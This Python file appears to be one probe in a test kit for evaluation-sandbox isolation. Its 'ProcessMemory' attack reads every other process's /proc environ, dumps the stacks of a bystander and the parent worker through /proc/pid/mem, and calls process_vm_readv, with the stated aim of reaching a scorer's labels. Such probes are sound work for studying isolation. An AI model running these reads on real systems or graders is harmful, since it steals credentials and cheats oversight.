"""Reads memory and environment of other processes through /proc."""

from __future__ import annotations

import os
from pathlib import Path

import targets
from kit import Attack


class ProcessMemory(Attack):
    """The scorer, which holds the labels, runs beside the worker under the same user."""

    def ways(self):
        return {
            "environments": self.environments,
            "a bystander's memory": lambda: self.stack(targets.BYSTANDER),
            "the worker's memory": lambda: self.stack(os.getppid()),
            "process_vm_readv": self.remote,
        }

    def environments(self):
        found = b""
        for name in os.listdir("/proc"):
            if name.isdigit() and name != str(os.getpid()):
                try:
                    found += Path("/proc", name, "environ").read_bytes()
                except OSError:
                    continue
        return found

    def stack(self, pid):
        lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
        begin, end = next(line for line in lines if "[stack]" in line).split()[0].split("-")
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            memory.seek(int(begin, 16))
            return memory.read(int(end, 16) - int(begin, 16))

    def remote(self):
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(8)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
        if libc.process_vm_readv(os.getppid(), local, 1, local, 1, 0) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "eight bytes of the worker's memory"
